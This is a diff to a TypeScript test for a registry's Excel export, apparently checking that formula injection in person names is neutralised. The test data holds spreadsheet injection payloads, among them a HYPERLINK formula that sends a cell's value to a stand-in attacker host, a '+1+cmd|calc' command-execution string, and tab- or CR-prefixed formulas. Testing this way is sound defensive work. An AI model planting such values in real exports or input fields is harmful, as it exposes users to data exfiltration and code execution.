@@ -162,7 +162,8 @@ describe(`registry Excel export on ${backend.name}`, () => {
     const ds = await dataSourceOf(t);
     const cipher = await t.get(PiiCipher);
     const lab = await createRegion(t, '公式村', 'village', town);
-    const hyperlink = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")';
+    // Within the 32-character name column (MariaDB enforces it).
+    const hyperlink = '=HYPERLINK("http://e.cn",B2)';
     const names = [hyperlink, '+1+cmd|calc', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '正常=名字'];
     await ds.getRepository(Person).insert(
       names.map((name, i) => ({
